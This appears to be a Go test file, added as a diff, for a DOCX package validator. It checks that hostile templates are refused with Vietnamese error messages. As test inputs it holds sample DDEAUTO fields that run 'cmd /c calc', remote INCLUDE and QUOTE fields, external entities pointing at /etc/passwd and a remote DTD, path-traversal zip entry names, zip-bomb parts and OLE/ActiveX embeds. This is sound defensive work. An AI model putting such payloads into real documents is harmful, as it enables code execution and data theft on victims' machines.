@@ -1,0 +1,260 @@
+package ooxml
+
+import (
+	"archive/zip"
+	"bytes"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// Hostile templates, class by class (issue 12): each is refused by
+// CheckPackage, and by Read, with a Vietnamese message naming the part.
+
+// field wraps a complex field whose code is split over the runs given.
+func field(code ...string) string {
+	s := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
+	for _, c := range code {
+		s += `<w:r><w:instrText xml:space="preserve">` + c + `</w:instrText></w:r>`
+	}
+	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
+}
+
+// reached adds parts to a minimal DOCX, each reached from the document by
+// a relationship of the kind given.
+func reached(body string, more map[string][2]string) []part {
+	rels := stylesRel
+	var parts []part
+	for name, kd := range more {
+		rels += `<Relationship Id="r` + filepath.Base(name) + `" Type="` + relTypes + kd[0] + `" Target="/` + name + `"/>`
+		parts = append(parts, part{name: name, data: kd[1]})
+	}
+	return with(docxParts(body), append(parts, part{name: "word/_rels/document.xml.rels", data: `<Relationships ` + relsNS + `>` + rels + `</Relationships>`})...)
+}
+
+// wantRefused checks that CheckPackage and Read refuse raw with a message
+// holding every want.
+func wantRefused(t *testing.T, raw []byte, want ...string) {
+	t.Helper()
+	err := CheckPackage(raw)
+	if err == nil {
+		t.Fatalf("CheckPackage accepted it; want an error holding %q", want)
+	}
+	for _, w := range want {
+		if !strings.Contains(err.Error(), w) {
+			t.Errorf("CheckPackage = %v\nwant it to hold %q", err, w)
+		}
+	}
+	if _, rerr := Open(raw); rerr == nil || rerr.Error() != err.Error() {
+		t.Errorf("Read = %v, want %v", rerr, err)
+	}
+}
+
+// Item 2: the whole code of a field is checked, however it is split,
+// spaced or cased, in every part that can hold fields.
+func TestFieldsThatFetchAreRefused(t *testing.T) {
+	p := func(s string) string { return `<w:p>` + s + `</w:p>` }
+	cases := []struct {
+		name, body string
+		want       []string
+	}{
+		{"INCLUDETEXT over two runs", p(field(" INCLUDE", `TEXT "C:\\x.docx" `)), []string{"INCLUDETEXT"}},
+		{"INCLUDE of a share", p(field(`INCLUDE "\\server\share\x.docx"`)), []string{"INCLUDE", `«INCLUDE "\\server\share\x.docx"»`}},
+		{"DDEAUTO then a tab", p(field("DDEAUTO\tcmd \"/c calc\"")), []string{"DDEAUTO"}},
+		{"lower case", p(field(`includepicture "x.png"`)), []string{"INCLUDEPICTURE"}},
+		{"LINK in fldSimple", p(`<w:fldSimple w:instr=" LINK Excel.Sheet.8 x.xlsx"><w:r><w:t>1</w:t></w:r></w:fldSimple>`), []string{"LINK"}},
+		{"IMPORT", p(field("IMPORT x.wmf")), []string{"IMPORT"}},
+		{"a name built by a nested field", p(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLU</w:instrText></w:r>` +
+			field(`QUOTE "DETEXT"`) + `<w:r><w:instrText> "x.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`), []string{"trường lồng"}},
+		{"DDE nested in an IF", p(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>` +
+			field("DDE cmd x") + `<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`), []string{"DDE"}},
+		{"a HYPERLINK to a file", p(field(`HYPERLINK "file:///C:/Windows/x.hta"`)), []string{"đường dẫn"}},
+		{"a QUOTE naming a URL", p(field(`QUOTE "http://203.0.113.5/a"`)), []string{"địa chỉ mạng"}},
+		{"quoted safely", p(field(`INCLUDETEXT "x` + "\u202e" + `gpj.docx"`)), []string{`«INCLUDETEXT "x\u202egpj.docx"»`}},
+		{"tracked deletion of a DDE", p(`<w:del w:id="1" w:author="x"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDEAUTO x y</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>`), []string{"DDEAUTO"}},
+		{"a field never ended", p(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>`), []string{"DDE"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			wantRefused(t, zipOf(t, docxParts(c.body)), append(c.want, `"word/document.xml"`, "Alt+F9")...)
+		})
+	}
+	// Every part that can hold fields: headers, footers, notes, comments
+	// and the glossary (building blocks).
+	bad := `<w:p>` + field("INCLUDE", "TEXT x.docx") + `</w:p>`
+	for name, kind := range map[string][2]string{
+		"word/header1.xml":           {"header", `<w:hdr ` + wNS + `>` + bad + `</w:hdr>`},
+		"word/footer1.xml":           {"footer", `<w:ftr ` + wNS + `>` + bad + `</w:ftr>`},
+		"word/footnotes.xml":         {"footnotes", `<w:footnotes ` + wNS + `><w:footnote w:id="1">` + bad + `</w:footnote></w:footnotes>`},
+		"word/endnotes.xml":          {"endnotes", `<w:endnotes ` + wNS + `><w:endnote w:id="1">` + bad + `</w:endnote></w:endnotes>`},
+		"word/comments.xml":          {"comments", `<w:comments ` + wNS + `><w:comment w:id="1">` + bad + `</w:comment></w:comments>`},
+		"word/glossary/document.xml": {"glossaryDocument", `<w:glossaryDocument ` + wNS + `><w:docParts><w:docPart><w:docPartBody>` + bad + `</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>`},
+	} {
+		t.Run(name, func(t *testing.T) {
+			wantRefused(t, zipOf(t, reached(`<w:p/>`, map[string][2]string{name: kind})), "INCLUDETEXT", `"`+name+`"`)
+		})
+	}
+}
+
+// The fields templates do use pass, however split.
+func TestHarmlessFieldsPass(t *testing.T) {
+	body := `<w:p>` + field(" PAGE ") + field("PA", "GE \\* MERGEFORMAT") + field("NUMPAGES") + field(`DATE \@ "dd/MM/yyyy HH:mm"`) +
+		field(`HYPERLINK \l "_Toc1"`) + `<w:fldSimple w:instr=" SECTIONPAGES "/>` +
+		`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>` + field("PAGE") +
+		`<w:r><w:instrText> = 1 "" "x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
+	if err := CheckPackage(zipOf(t, docxParts(body))); err != nil {
+		t.Error(err)
+	}
+}
+
+// Items 3 and 10: every XML part is read through and must be well-formed,
+// without DOCTYPE or ENTITY declarations; what cannot be read is refused.
+func TestXMLPartsAreReadThrough(t *testing.T) {
+	doctype := `<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "http://203.0.113.5/x.dtd">]><w:styles ` + wNS + `/>`
+	attached := `<Relationship Id="rId1" Type="` + relTypes + `attachedTemplate" Target="http://203.0.113.5/mau.dotm" TargetMode="External"/>`
+	settings := func(rels string) []part {
+		return with(reached(`<w:p/>`, map[string][2]string{"word/settings.xml": {"settings", `<w:settings ` + wNS + `/>`}}),
+			part{name: "word/_rels/settings.xml.rels", data: rels})
+	}
+	cases := []struct {
+		name  string
+		parts []part
+		want  []string
+	}{
+		{"DOCTYPE in styles.xml", with(docxParts(`<w:p/>`), part{name: "word/styles.xml", data: doctype}), []string{`"word/styles.xml"`, "DOCTYPE", "203.0.113.5"}},
+		{"ENTITY in a .rels", settings(`<!ENTITY x "y"><Relationships ` + relsNS + `/>`), []string{`"word/_rels/settings.xml.rels"`, "ENTITY"}},
+		{"DOCTYPE in [Content_Types].xml", with(docxParts(`<w:p/>`), part{name: "[Content_Types].xml", data: `<!DOCTYPE Types SYSTEM "http://x/y.dtd">` + ctMain[strings.Index(ctMain, "<Types"):]}), []string{`"[Content_Types].xml"`, "DOCTYPE"}},
+		{"DOCTYPE in an XML part by content type", with(reached(`<w:p/>`, map[string][2]string{"customXml/item1.dat": {"customXml", `<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>`}}),
+			part{name: "[Content_Types].xml", data: strings.Replace(ctMain, "</Types>", `<Override PartName="/customXml/item1.dat" ContentType="application/xml"/></Types>`, 1)}), []string{`"customXml/item1.dat"`, "DOCTYPE"}},
+		{"a .rels broken before its link out", settings(`<Relationships ` + relsNS + `>< ` + attached + `</Relationships>`), []string{`"word/_rels/settings.xml.rels"`, "không phải XML hợp lệ"}},
+		{"a .rels with a second root", settings(`<Relationships ` + relsNS + `/><Relationships ` + relsNS + `>` + attached + `</Relationships>`), []string{`"word/_rels/settings.xml.rels"`, "một phần tử gốc"}},
+		{"a document cut short", with(docxParts(`<w:p/>`), part{name: "word/document.xml", data: `<w:document ` + wNS + `><w:body><w:p>`}), []string{`"word/document.xml"`, "hỏng"}},
+		{"a part in UTF-16", with(docxParts(`<w:p/>`), part{name: "word/styles.xml", data: "\xff\xfe<\x00x\x00/\x00>\x00"}), []string{`"word/styles.xml"`, "hỏng"}},
+		{"nested too deep", with(docxParts(strings.Repeat("<w:sdt>", maxXMLDepth)+strings.Repeat("</w:sdt>", maxXMLDepth)), nil...), []string{"lồng quá sâu"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) { wantRefused(t, zipOf(t, c.parts), c.want...) })
+	}
+}
+
+// Item 4: entry names an unzip tool would write elsewhere, or onto another
+// entry.
+func TestEntryNamesAreRefused(t *testing.T) {
+	for _, name := range []string{"../../x", "/abs/x", `word/..\..\x.bat`, "word/../../x", "word//x.xml", "word/", "word/./x.xml",
+		"C:x", "word/x.xml.", "word/x .xml ", "word/\x1b[2Jx.xml", "word/media/\xff.png", "word/media/x\u202egnp.exe"} {
+		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
+			var buf bytes.Buffer
+			zw := zip.NewWriter(&buf)
+			for _, p := range append(docxParts(`<w:p/>`), part{name: name, data: "x"}) {
+				w, err := zw.CreateHeader(&zip.FileHeader{Name: p.name, Method: zip.Deflate})
+				if err != nil {
+					t.Fatal(err)
+				}
+				io.WriteString(w, p.data)
+			}
+			zw.Close()
+			wantRefused(t, buf.Bytes(), fmt.Sprintf("%q", name), "không hợp lệ")
+		})
+	}
+	for name, parts := range map[string][]part{
+		"equal but for case": append(docxParts(`<w:p/>`), part{name: "word/Document.xml", data: "<x/>"}),
+		"the same name":      append(docxParts(`<w:p/>`), part{name: "word/document.xml", data: "<x/>"}),
+		"composed and not":   append(docxParts(`<w:p/>`), part{name: "word/media/a\u0301.png", data: "x"}, part{name: "word/media/\u00e1.png", data: "x"}),
+	} {
+		t.Run(name, func(t *testing.T) { wantRefused(t, zipOf(t, parts), "trùng tên") })
+	}
+}
+
+// Item 5: the whole package is bounded, in size and in compression ratio,
+// and every part must be reached by a relationship.
+func TestPackageBoundsAndUnreachedParts(t *testing.T) {
+	// Parts whose directory entries declare sizes: the checks read nothing.
+	junk := func(n int, size, compressed uint64) []part {
+		var ps []part
+		for i := range n {
+			ps = append(ps, part{name: fmt.Sprintf("word/media/junk%d.bin", i), raw: true, size: size, compressed: compressed})
+		}
+		return ps
+	}
+	wantRefused(t, zipOf(t, with(docxParts(`<w:p/>`), junk(7, 31<<20, 16<<20)...)), "giải nén ra quá lớn")
+	// Each part under the floor and compressed 128 times: the package,
+	// a few kilobytes, would give 28 MB in every output.
+	wantRefused(t, zipOf(t, with(docxParts(`<w:p/>`), junk(7, 4<<20, 32<<10)...)), "nén bất thường", "zip bomb")
+	wantRefused(t, zipOf(t, with(docxParts(`<w:p/>`), part{name: "word/media/junk.bin", data: "x"})),
+		`"word/media/junk.bin"`, "không được phần nào dùng tới", "xóa phần đó")
+	// A .rels of a part that does not exist reaches nothing, and is not
+	// reached either.
+	wantRefused(t, zipOf(t, with(docxParts(`<w:p/>`), part{name: "word/_rels/khong-co.xml.rels", data: `<Relationships ` + relsNS + `/>`})),
+		`"word/_rels/khong-co.xml.rels"`, "không được phần nào dùng tới")
+	// Reached through a chain of relationships, named with another case
+	// and percent-escapes, docProps without any: all fine.
+	ok := with(reached(`<w:p/>`, map[string][2]string{"customXml/item1.xml": {"customXml", `<b:Sources xmlns:b="urn:x"/>`}}),
+		part{name: "customXml/_rels/item1.xml.rels", data: `<Relationships ` + relsNS + `><Relationship Id="r1" Type="` + relTypes + `customXmlProps" Target="item%50rops1.xml"/></Relationships>`},
+		part{name: "customXml/itemProps1.xml", data: `<ds:datastoreItem xmlns:ds="urn:y"/>`},
+		part{name: "docProps/custom.xml", data: `<Properties xmlns="urn:z"/>`},
+		part{name: "word/_rels/document.xml.rels", data: `<Relationships ` + relsNS + `><Relationship Id="rIdS" Type="` + relTypes + `styles" Target="STYLES.xml"/>` +
+			`<Relationship Id="c" Type="` + relTypes + `customXml" Target="../customXml/item1.xml"/></Relationships>`})
+	if err := CheckPackage(zipOf(t, ok)); err != nil {
+		t.Errorf("reached parts: %v", err)
+	}
+}
+
+// Item 6: OLE objects, ActiveX controls and embedded packages, found by
+// part name, relationship type, content type or element.
+func TestEmbeddedObjectsAreRefused(t *testing.T) {
+	object := `<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>`
+	cases := []struct {
+		name  string
+		parts []part
+		want  []string
+	}{
+		{"word/embeddings", reached(`<w:p/>`, map[string][2]string{"word/embeddings/oleObject1.bin": {"oleObject", "x"}}), []string{`"word/embeddings/oleObject1.bin"`, "OLE"}},
+		{"oleObject relationship", reached(`<w:p/>`, map[string][2]string{"word/media/a.bin": {"oleObject", "x"}}), []string{"oleObject", "OLE"}},
+		{"package relationship", reached(`<w:p/>`, map[string][2]string{"word/media/bang.xlsx": {"package", "PK"}}), []string{"package", "OLE"}},
+		{"OLE content type", with(reached(`<w:p/>`, map[string][2]string{"word/media/a.dat": {"image", "x"}}),
+			part{name: "[Content_Types].xml", data: strings.Replace(ctMain, "</Types>", `<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>`, 1)}),
+			[]string{`"word/media/a.dat"`, "OLE"}},
+		{"w:object element", docxParts(object), []string{`"word/document.xml"`, "<object>", "OLE"}},
+		{"OLEObject element", docxParts(`<w:p><w:r><w:pict xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject ProgID="Excel.Sheet.12"/></w:pict></w:r></w:p>`), []string{"<OLEObject>"}},
+		{"ActiveX control element", docxParts(`<w:p><w:r><w:control r:id="rId9"/></w:r></w:p>`), []string{"<control>", "ActiveX"}},
+		{"ActiveX relationship", reached(`<w:p/>`, map[string][2]string{"word/media/c.xml": {"control", "<x/>"}}), []string{"control", "ActiveX"}},
+		{"imported chunk", reached(`<w:p/>`, map[string][2]string{"word/afchunk.mht": {"aFChunk", "x"}}), []string{"aFChunk", "altChunk"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) { wantRefused(t, zipOf(t, c.parts), c.want...) })
+	}
+}
+
+// Item 23: the package verdict requires a styles part that is one, so
+// that check and build, which both go through it, agree.
+func TestStylesPartIsRequired(t *testing.T) {
+	noStyles := with(docxParts(`<w:p/>`), part{name: "word/_rels/document.xml.rels", data: `<Relationships ` + relsNS + `/>`})
+	wantRefused(t, zipOf(t, noStyles[:len(noStyles)-1]), "không có phần kiểu", "styles.xml", "Times New Roman") // the part gone too
+	wantRefused(t, zipOf(t, with(docxParts(`<w:p/>`), part{name: "word/styles.xml", data: "rác, không phải XML"})), `"word/styles.xml"`, "hỏng")
+	wantRefused(t, zipOf(t, with(docxParts(`<w:p/>`), part{name: "word/styles.xml", data: "<w:styles " + wNS + "><w:style>"})), `"word/styles.xml"`, "không phải XML hợp lệ")
+	wantRefused(t, zipOf(t, with(docxParts(`<w:p/>`), part{name: "word/styles.xml", data: "<x/>"})), `"word/styles.xml"`, "w:styles")
+}
+
+// Documents written by LibreOffice with footnotes, endnotes, comments, an
+// image, a web link, a header and footer with PAGE and NUMPAGES, and date
+// and file-name fields pass (testdata/libreoffice/rich.fodt, converted by
+// soffice --convert-to docx).
+func TestCheckPackageAcceptsLibreOfficeDocuments(t *testing.T) {
+	files, _ := filepath.Glob("testdata/libreoffice/*.docx")
+	more, _ := filepath.Glob("../tplcheck/testdata/lo/*/*.docx")
+	if len(files) == 0 || len(more) == 0 {
+		t.Fatal("no LibreOffice documents found")
+	}
+	for _, f := range append(files, more...) {
+		raw, err := os.ReadFile(f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := CheckPackage(raw); err != nil {
+			t.Errorf("%s: %v", f, err)
+		}
+	}
+}
